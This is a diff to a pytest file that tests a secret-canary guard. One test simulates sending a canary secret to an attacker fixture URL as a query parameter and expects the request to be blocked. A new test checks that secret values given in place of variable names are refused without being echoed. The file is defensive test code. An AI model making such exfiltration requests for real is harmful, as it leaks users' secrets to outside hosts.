@@ -208,8 +208,14 @@ class TestCanaries:
                 with pytest.raises(BlockedSecret):
                     await web.open_page(f"{attacker.url}/log?d=wombat9931lantern")
                 assert (await web.open_page(f"{attacker.url}/log?d=wombat")).content
-        assert "NOT_SET_ANYWHERE" in caplog.text
+        assert "number 2 names a variable that is not set" in caplog.text
         assert "wombat" not in caplog.text
+
+    @pytest.mark.parametrize("value", ["wombat-9931-lantern", "A B", "1X"])
+    def test_a_value_in_the_place_of_a_name_is_refused(self, value: str, settings: Make) -> None:
+        with pytest.raises(ValueError, match="write the names, not the values") as caught:
+            settings(policy={"secret_variables": (value,)})
+        assert value not in str(caught.value)
 
     @pytest.mark.req("B10")
     async def test_passwords_of_the_settings_are_secrets(self, settings: Make) -> None:
